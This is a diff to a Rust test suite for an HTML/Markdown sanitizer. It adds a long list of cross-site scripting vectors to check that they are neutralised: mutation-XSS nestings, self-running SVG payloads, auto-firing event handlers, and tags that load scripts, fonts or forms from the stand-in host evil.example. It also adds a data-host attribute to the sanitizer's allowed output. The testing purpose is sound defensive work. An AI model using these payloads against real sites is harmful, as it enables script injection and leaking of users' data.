@@ -186,6 +186,52 @@ const VECTORS: &[&str] = &[
     "~~<script>alert(1)</script>~~",
     "- [ ] <script>alert(1)</script>",
     "<div markdown=1>\n\n[x](javascript:alert(1))\n\n</div>",
+    // Mutation: what changes its meaning when a browser reads its own output again.
+    "<svg><p><style><!--</style><img src=x onerror=alert(1)>--></style></p></svg>",
+    "<math><annotation-xml encoding=\"text/html\"><img src=x onerror=alert(1)></annotation-xml></math>",
+    "<math><semantics><annotation-xml encoding=\"application/xhtml+xml\"><script>alert(1)</script></annotation-xml></semantics></math>",
+    "<svg><foreignObject><iframe srcdoc=\"<script>alert(1)</script>\"></iframe></foreignObject></svg>",
+    "<svg><desc><img src=x onerror=alert(1)></desc></svg>",
+    "<svg><title><style><img src=x onerror=alert(1)></style></title></svg>",
+    "<math><mtext><option><mglyph><svg><mtext><textarea><path id=\"</textarea><img onerror=alert(1) src=x>\">",
+    "<p><svg><style><a title=\"</style><img src=x onerror=alert(1)>\">",
+    "<math><mi><listing><malignmark><style><img src=x onerror=alert(1)></style></malignmark></listing></mi></math>",
+    "<img alt=\"<x\" title=\"/><img src=x onerror=alert(1)>\">",
+    "<a title=\"</a><img src=x onerror=alert(1)>\" href=https://e.org>x</a>",
+    "<div><table><div><b><table><tr><td><p title=\"<!--\"><img src=x onerror=alert(1)>--></table></div>",
+    "<b><p><table><a href=https://e.org><table><a href=javascript:alert(1)>x</a></table>",
+    // SVG that runs by itself.
+    "<svg><set attributeName=onmouseover to=alert(1) /></svg>",
+    "<svg><use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script></svg>#x\" /></svg>",
+    "<svg><image href=https://evil.example/a.svg onload=alert(1) /></svg>",
+    "<svg><handler xmlns:ev=\"http://www.w3.org/2001/xml-events\" ev:event=load>alert(1)</handler></svg>",
+    "<svg/onload=alert(1)//",
+    "<svg><animateTransform onbegin=alert(1) attributeName=transform></svg>",
+    "<svg><discard onbegin=alert(1)></svg>",
+    "<svg><feImage href=https://evil.example/a.png /></svg>",
+    // Handlers that need nobody, and attributes that load.
+    "<p contenteditable onbeforeinput=alert(1) autofocus tabindex=1 onfocus=alert(1)>x</p>",
+    "<div onpointerrawupdate=alert(1) onanimationstart=alert(1) style=animation:x>x</div>",
+    "<p popover id=x onbeforetoggle=alert(1)>x</p><button popovertarget=x autofocus>x</button>",
+    "<table background=https://evil.example/bg.png><tr><td background=javascript:alert(1)>x</td></tr></table>",
+    "<body onload=alert(1) onpageshow=alert(1) onhashchange=alert(1)>",
+    "<html manifest=https://evil.example/x.appcache>",
+    "<input type=image src=https://evil.example/a.png onerror=alert(1)>",
+    "<video poster=https://evil.example/p.png><track src=https://evil.example/t.vtt default></video>",
+    "<picture><source srcset=https://evil.example/a.png><img src=https://evil.example/b.png></picture>",
+    "<meta http-equiv=Content-Security-Policy content=\"script-src 'none'\">",
+    "<meta name=referrer content=unsafe-url>",
+    "<meta http-equiv=set-cookie content=a=b>",
+    "<link rel=prefetch href=https://evil.example/x><link rel=dns-prefetch href=//evil.example>",
+    "<link rel=modulepreload href=https://evil.example/x.js>",
+    "<style>.shell, .proof { display: none !important }</style>",
+    "<style>@font-face { font-family: x; src: url(https://evil.example/f) } * { font-family: x }</style>",
+    "<script type=module>import 'https://evil.example/x.js'</script>",
+    "<script type=importmap>{\"imports\":{\"x\":\"https://evil.example/x.js\"}}</script>",
+    "<script type=speculationrules>{\"prerender\":[{\"urls\":[\"https://evil.example\"]}]}</script>",
+    "<form id=app action=https://evil.example><input name=submit autofocus></form><button form=app>x</button>",
+    "<a href=https://e.org download=evil.html attributionsrc=https://evil.example>x</a>",
+    "<fencedframe src=https://evil.example></fencedframe>",
     "\u{2}wzxhzdk:0\u{3}",
     "\u{2}klzzwxh:0001\u{3}<script>alert(1)</script>",
     "\u{f0000}<b\u{f0001}onclick=alert(1)>",
@@ -239,7 +285,7 @@ fn check_attribute(element: &str, key: &str, value: &str, source: &str) {
             true
         }
         "title" | "lang" | "dir" | "alt" | "width" | "height" | "align" | "colspan" | "rowspan" | "start" | "value"
-        | "open" | "reversed" | "datetime" | "target" | "rel" | "data-what" | "data-note" | "id" => true,
+        | "open" | "reversed" | "datetime" | "target" | "rel" | "data-what" | "data-note" | "data-host" | "id" => true,
         _ => false,
     };
     assert!(known, "{key} on {element} from {source:?}");
@@ -354,7 +400,7 @@ fn the_proof_marks_what_was_left_out_and_loads_nothing() {
     assert_eq!(shown("[x](data:y)"), "<a><span class=\"left-out\" data-what=\"address\"></span>x</a>");
     assert_eq!(
         shown("![a](https://e.org/a.png)"),
-        "<button type=\"button\" class=\"picture\" data-src=\"https://e.org/a.png\">a</button>"
+        "<button type=\"button\" class=\"picture\" data-src=\"https://e.org/a.png\" data-host=\"e.org\">a</button>"
     );
     assert_eq!(
         shown("[x](https://e.org)"),
